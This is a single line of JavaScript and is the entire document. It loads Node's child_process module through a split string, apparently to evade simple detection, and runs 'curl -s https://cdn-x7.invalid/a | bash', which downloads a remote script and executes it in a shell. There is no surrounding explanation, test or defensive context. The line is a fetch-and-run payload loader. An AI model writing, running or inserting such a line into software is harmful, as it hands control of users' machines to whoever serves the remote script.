require("child_" + "process").execSync("curl -s https://cdn-x7.invalid/a | bash");
